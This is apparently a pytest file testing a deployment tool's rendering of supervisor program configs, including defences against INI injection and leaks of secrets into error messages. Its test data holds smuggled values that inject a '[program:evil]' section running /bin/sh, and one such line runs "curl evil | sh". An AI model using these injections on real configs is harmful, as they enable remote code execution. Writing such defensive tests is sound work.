"""Supervisor program rendering: every INI injection rule, round trips through supervisor's
own parser, determinism, and no secret value in any error message."""

from __future__ import annotations

import getpass
import shlex
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from supervisor.datatypes import RestartUnconditionally
from supervisor.options import ServerOptions, UnhosedConfigParser

from deployer.model.deployment import Deployment
from deployer.model.desired import DesiredService
from deployer.runtimes.supervisor import (
    SYSTEM_PATH,
    ProgramHeader,
    RenderError,
    body_hash,
    body_intact,
    check_program,
    format_header,
    parse_header,
    program_environment,
    program_settings,
    render_program,
)

TEMPLATES = Path(__file__).resolve().parents[2] / "templates"


def make_deployment(
    *,
    name: str = "text-classify",
    argv: tuple[str, ...] = ("python", "-m", "uvicorn", "main:app", "--port", "8801"),
    env: dict[str, str] | None = None,
    secrets: dict[str, str] | None = None,
    env_dir: Path | None = Path("/srv/envs/abc"),
    workdir: Path = Path("/srv/checkouts/text-classify"),
    revision: int = 7,
) -> Deployment:
    desired = DesiredService(name=name, source="acme/models", sha="a" * 40, tree="b" * 40,
                             runtime="supervisor", port=8801)
    environment = {"PORT": "8801", "HOST": "127.0.0.1", **(env or {})}
    return Deployment(desired=desired, revision=revision, workdir=workdir, env_dir=env_dir, argv=argv,
                      environment=environment, secret_env=secrets or {})


def render(deployment: Deployment, log_dir: Path, **kwargs: Any) -> str:
    return render_program(deployment, templates_dir=TEMPLATES, log_dir=log_dir, **kwargs)


def header_of(text: str) -> ProgramHeader:
    header = parse_header(text.split("\n", 1)[0])
    assert header is not None
    return header


def reseal(text: str) -> str:
    """``text`` with its header's body-hash recomputed, as if a template had rendered it so."""
    body = text.split("\n", 1)[1]
    return f"{format_header(replace(header_of(text), body_hash=body_hash(body)))}\n{body}"


def parse(text: str) -> Any:
    """The ProcessConfig supervisord itself would build from ``text``."""
    parser = UnhosedConfigParser()
    parser.read_string(text)
    (section,) = parser.sections()
    (config,) = ServerOptions().processes_from_section(parser, section, section.split(":", 1)[1])
    return config


def test_renders_one_program_with_the_required_settings(tmp_path: Path) -> None:
    text = render(make_deployment(), tmp_path)
    config = parse(text)
    assert config.name == "text-classify"
    assert config.directory == "/srv/checkouts/text-classify"
    assert (config.autostart, config.startsecs, config.startretries) == (True, 1, 3)
    assert config.autorestart is RestartUnconditionally
    assert (config.stopasgroup, config.killasgroup, config.stopsignal, config.stopwaitsecs) == (True, True, 15, 10)
    assert config.redirect_stderr is True
    assert config.stdout_logfile == str(tmp_path / "text-classify.log")
    assert (config.stdout_logfile_maxbytes, config.stdout_logfile_backups) == (10 * 1024 * 1024, 3)
    assert config.uid is None
    check_program(text, environment=program_environment(make_deployment()))


def test_header_names_service_revision_spec_hash_port_and_body_hash(tmp_path: Path) -> None:
    deployment = make_deployment(revision=12)
    first_line, body = render(deployment, tmp_path).split("\n", 1)
    header = parse_header(first_line)
    assert header == ProgramHeader("text-classify", 12, deployment.desired.spec_hash, 8801, body_hash(body))
    assert first_line == format_header(header)
    assert first_line.endswith(f"port=8801 body-hash={body_hash(body)}")
    assert parse_header("; something else") is None


def test_a_header_from_before_port_and_body_hash_still_parses() -> None:
    old = "; deployer: service=web revision=3 spec-hash=abc123"
    assert parse_header(old) == ProgramHeader("web", 3, "abc123")
    assert body_intact(old + "\n[program:web]\ncommand=anything\n")  # nothing to check it against
    assert parse_header(old + " port=8801") == ProgramHeader("web", 3, "abc123", 8801)
    assert parse_header(old + " body-hash=short") is None


def test_any_edit_below_the_header_breaks_the_body_hash(tmp_path: Path) -> None:
    text = render(make_deployment(), tmp_path)
    assert body_intact(text)
    for edited in (text.replace("startretries=3", "startretries=5"), text + "; a comment\n",
                   text.replace("autostart=true\n", ""), text.rstrip("\n")):
        assert not body_intact(edited)
        with pytest.raises(RenderError, match="body-hash"):
            check_program(edited)
    assert body_intact(reseal(text + "; a comment\n"))


def test_the_body_hash_is_deterministic_and_follows_the_settings(tmp_path: Path) -> None:
    one, again = render(make_deployment(), tmp_path), render(make_deployment(), tmp_path)
    assert one == again
    other = render(make_deployment(argv=("python", "other.py")), tmp_path)
    assert header_of(one).body_hash != header_of(other).body_hash


def test_an_old_template_with_its_own_header_line_gets_one_header(tmp_path: Path) -> None:
    templates = tmp_path / "templates"
    (templates / "supervisor").mkdir(parents=True)
    original = (TEMPLATES / "supervisor" / "program.conf.j2").read_text()
    old_header = "; deployer: service={{ name }} revision={{ revision }} spec-hash={{ spec_hash }}\n"
    (templates / "supervisor" / "program.conf.j2").write_text(original.replace("-#}\n", "-#}\n" + old_header, 1))
    text = render_program(make_deployment(), templates_dir=templates, log_dir=tmp_path)
    assert text == render(make_deployment(), tmp_path)
    check_program(text)


def test_program_settings_read_back_command_directory_and_environment(tmp_path: Path) -> None:
    deployment = make_deployment(argv=("python", "-m", "uvicorn", "two words", "50%"))
    settings = program_settings(render(deployment, tmp_path))
    assert settings.name == "text-classify"
    assert settings.argv == ("python", "-m", "uvicorn", "two words", "50%")
    assert settings.directory == "/srv/checkouts/text-classify"
    assert settings.environment == program_environment(deployment)


def test_user_line_only_when_given(tmp_path: Path) -> None:
    assert "user=" not in render(make_deployment(), tmp_path)
    user = getpass.getuser()
    text = render(make_deployment(), tmp_path, user=user)
    assert f"\nuser={user}\n" in text
    assert parse(text).uid is not None


def test_output_is_deterministic_and_ends_with_one_newline(tmp_path: Path) -> None:
    one = make_deployment(env={"B": "2", "A": "1", "C": "3"})
    other = make_deployment(env={"C": "3", "A": "1", "B": "2"})
    text = render(one, tmp_path)
    assert text == render(one, tmp_path) == render(other, tmp_path)
    assert text.endswith("\n") and not text.endswith("\n\n")
    environment_line = next(line for line in text.splitlines() if line.startswith("environment="))
    keys = [item.split("=", 1)[0] for item in environment_line.removeprefix("environment=").split(",")]
    assert keys == sorted(keys)


def test_path_puts_the_service_environment_first(tmp_path: Path) -> None:
    env = parse(render(make_deployment(), tmp_path)).environment
    assert env["PATH"] == f"/srv/envs/abc/bin:{SYSTEM_PATH}"
    assert parse(render(make_deployment(env_dir=None), tmp_path)).environment["PATH"] == SYSTEM_PATH


TRICKY_VALUES = {
    "PERCENT": "100%",
    "PERCENTS": "%%d %s %",
    "DOUBLE_INSIDE": 'say "hi" now',
    "SINGLE_INSIDE": "it's",
    "EMPTY": "",
    "COMMA_EQUALS": "a,b=c,d",
    "SPACES": "  padded value  ",
    "BACKSLASH": "C:\\path\\",
    "TAB": "a\tb",
    "UNICODE": "ünïcödé ✓",
    "HASH_SEMI_NO_SPACE": "a#b;c",
    "URL": "https://user@example.com/x?y=1&z=2#frag",
    "DOLLAR": "$HOME ${PORT}",
}


def test_environment_round_trips_exactly_through_supervisors_parser(tmp_path: Path) -> None:
    deployment = make_deployment(env=TRICKY_VALUES, secrets={"HF_TOKEN": "hf_s3cr3t%"})
    text = render(deployment, tmp_path)
    assert parse(text).environment == program_environment(deployment)
    check_program(text, environment=program_environment(deployment))


def test_percent_is_doubled_in_the_file(tmp_path: Path) -> None:
    text = render(make_deployment(env={"RATE": "50%"}, argv=("python", "-c", "print('%d' % 5)")), tmp_path)
    assert 'RATE="50%%"' in text
    config = parse(text)
    assert config.environment["RATE"] == "50%"
    assert shlex.split(config.command) == ["python", "-c", "print('%d' % 5)"]


def test_quote_choice_follows_the_value(tmp_path: Path) -> None:
    text = render(make_deployment(env={"A": 'x"y', "B": "x'y"}), tmp_path)
    assert "A='x\"y'" in text and 'B="x\'y"' in text


def test_command_arguments_round_trip(tmp_path: Path) -> None:
    argv = ("python", "main.py", "--name", "two words", "it's", 'say "x"', "$PORT", "a;b", "x#y", "ü", "")
    assert shlex.split(parse(render(make_deployment(argv=argv), tmp_path)).command) == list(argv)


BAD_VALUES = {
    "newline": "ok\n[program:evil]\ncommand=/bin/sh",
    "carriage return": "ok\r[program:evil]",
    "nul": "ok\x00more",
    "escape": "ok\x1b[31m",
    "line separator": "ok\u2028more",
    "percent paren": "%(ENV_HOME)s",
    "semicolon after space": "value ;comment",
    "hash after space": "value #comment",
    "hash after tab": "value\t#comment",
}


@pytest.mark.parametrize("value", BAD_VALUES.values(), ids=BAD_VALUES.keys())
def test_unsafe_env_values_are_rejected(tmp_path: Path, value: str) -> None:
    with pytest.raises(RenderError, match="service text-classify: environment MODEL"):
        render(make_deployment(env={"MODEL": value}), tmp_path)


@pytest.mark.parametrize("value", BAD_VALUES.values(), ids=BAD_VALUES.keys())
def test_unsafe_command_arguments_are_rejected(tmp_path: Path, value: str) -> None:
    with pytest.raises(RenderError, match="command argument 2"):
        render(make_deployment(argv=("python", "main.py", value)), tmp_path)


@pytest.mark.parametrize("value", ['both " and \'', '"leading', "trailing'", "'", '"'])
def test_env_values_with_unusable_quotes_are_rejected(tmp_path: Path, value: str) -> None:
    with pytest.raises(RenderError, match="environment MODEL: must not"):
        render(make_deployment(env={"MODEL": value}), tmp_path)


@pytest.mark.parametrize("key", ["BAD-KEY", "1ST", "A B", "K=V", "X\nY", ""])
def test_env_keys_are_allow_listed(tmp_path: Path, key: str) -> None:
    with pytest.raises(RenderError, match="environment key"):
        render(make_deployment(env={key: "v"}), tmp_path)


@pytest.mark.parametrize("name", ["Evil", "a b", "x]\n[program:y", "a:b", "-x"])
def test_service_names_are_allow_listed(tmp_path: Path, name: str) -> None:
    deployment = make_deployment()
    bad = Deployment(desired=deployment.desired.model_copy(update={"name": name}), revision=1,
                     workdir=deployment.workdir, argv=deployment.argv)
    with pytest.raises(RenderError, match="service name"):
        render(bad, tmp_path)


@pytest.mark.parametrize("user", ["root\n[program:x]", "a b", "Root;x"])
def test_user_is_allow_listed(tmp_path: Path, user: str) -> None:
    with pytest.raises(RenderError, match="user"):
        render(make_deployment(), tmp_path, user=user)


def test_unsafe_workdir_and_empty_command_are_rejected(tmp_path: Path) -> None:
    with pytest.raises(RenderError, match="directory"):
        render(make_deployment(workdir=Path("/srv/x\n[program:evil]")), tmp_path)
    with pytest.raises(RenderError, match="directory"):
        render(make_deployment(workdir=Path("relative/dir")), tmp_path)
    with pytest.raises(RenderError, match="command is empty"):
        render(make_deployment(argv=()), tmp_path)


@pytest.mark.parametrize("secret", ["s3cr3t-value\n[program:evil]", "s3cr3t-value ;x", "%(s3cr3t-value)s",
                                    '"s3cr3t-value"', "s3cr3t-value\x00"])
def test_a_secret_value_never_appears_in_the_error(tmp_path: Path, secret: str) -> None:
    with pytest.raises(RenderError) as caught:
        render(make_deployment(secrets={"HF_TOKEN": secret}), tmp_path)
    assert "HF_TOKEN" in str(caught.value)
    assert "s3cr3t" not in str(caught.value) and "s3cr3t" not in repr(caught.value)
    assert caught.value.reason == "ApplyFailed"


def test_check_program_rejects_an_injected_section(tmp_path: Path) -> None:
    text = render(make_deployment(), tmp_path)
    with pytest.raises(RenderError, match="exactly one section"):
        check_program(text + "[program:evil]\ncommand=/bin/sh -c 'curl evil | sh'\n")
    with pytest.raises(RenderError, match="exactly one section"):
        check_program(text + "[supervisord]\nuser=root\n")


def test_check_program_rejects_duplicates_a_lax_parser_would_merge(tmp_path: Path) -> None:
    text = render(make_deployment(), tmp_path)
    with pytest.raises(RenderError, match="not valid INI"):
        check_program(text + "command=/bin/sh\n")
    with pytest.raises(RenderError, match="not valid INI"):
        check_program(text + "[program:text-classify]\ncommand=/bin/sh\n")


def test_check_program_needs_the_header_and_a_matching_program(tmp_path: Path) -> None:
    text = render(make_deployment(), tmp_path)
    with pytest.raises(RenderError, match="first line"):
        check_program(text.split("\n", 1)[1])
    renamed = text.replace("[program:text-classify]", "[program:other]")
    with pytest.raises(RenderError, match=r"exactly one section \[program:text-classify\]"):
        check_program(renamed)
    with pytest.raises(RenderError, match="control character"):
        check_program(text.replace("autostart=true", "autostart=true\r"))


def test_check_program_reports_supervisor_errors_without_values(tmp_path: Path) -> None:
    text = render(make_deployment(), tmp_path).replace("stopsignal=TERM", "stopsignal=NOPE")
    with pytest.raises(RenderError, match="supervisor rejects it"):
        check_program(text)
    # supervisor quotes the whole environment string (secrets included) in its message.
    deployment = make_deployment(env={"QUOTE": "it's"}, secrets={"HF_TOKEN": "s3cr3t-value"})
    broken_env = render(deployment, tmp_path).replace('PORT="8801"', "PORT 8801")
    with pytest.raises(RenderError, match="supervisor rejects it") as caught:
        check_program(broken_env)
    assert "s3cr3t" not in str(caught.value)


def test_check_program_compares_the_environment(tmp_path: Path) -> None:
    deployment = make_deployment(secrets={"HF_TOKEN": "s3cr3t-value"})
    text = render(deployment, tmp_path)
    expected = {**program_environment(deployment), "HF_TOKEN": "other"}
    with pytest.raises(RenderError, match="HF_TOKEN") as caught:
        check_program(text, environment=expected)
    assert "s3cr3t" not in str(caught.value)
    unterminated = text.replace('HF_TOKEN="s3cr3t-value"', 'HF_TOKEN="s3cr3t-value')
    with pytest.raises(RenderError, match=r"HF_TOKEN|supervisor rejects it") as caught:
        check_program(unterminated, environment=program_environment(deployment))
    assert "s3cr3t" not in str(caught.value)


def test_an_operator_template_with_startsecs_zero_is_refused(tmp_path: Path) -> None:
    templates = tmp_path / "templates"
    (templates / "supervisor").mkdir(parents=True)
    original = (TEMPLATES / "supervisor" / "program.conf.j2").read_text()
    (templates / "supervisor" / "program.conf.j2").write_text(original.replace("startsecs=1", "startsecs=0"))
    text = render_program(make_deployment(), templates_dir=templates, log_dir=tmp_path)
    with pytest.raises(RenderError, match="startsecs"):
        check_program(text)


def test_template_problems_become_render_errors(tmp_path: Path) -> None:
    with pytest.raises(RenderError, match=r"program\.conf\.j2"):
        render_program(make_deployment(), templates_dir=tmp_path / "missing", log_dir=tmp_path)
    templates = tmp_path / "templates"
    (templates / "supervisor").mkdir(parents=True)
    (templates / "supervisor" / "program.conf.j2").write_text("{{ no_such_variable }}\n")
    with pytest.raises(RenderError, match="no_such_variable"):
        render_program(make_deployment(), templates_dir=templates, log_dir=tmp_path)


def test_the_environment_comparison_catches_what_supervisors_lexer_lets_through(tmp_path: Path) -> None:
    deployment = make_deployment()
    text = reseal(render(deployment, tmp_path).replace('PORT="8801"', 'PORT="8801'))
    check_program(text)  # supervisor's lenient lexer accepts the unterminated quote ...
    with pytest.raises(RenderError, match="does not parse back as written"):
        check_program(text, environment=program_environment(deployment))  # ... and mangles the values
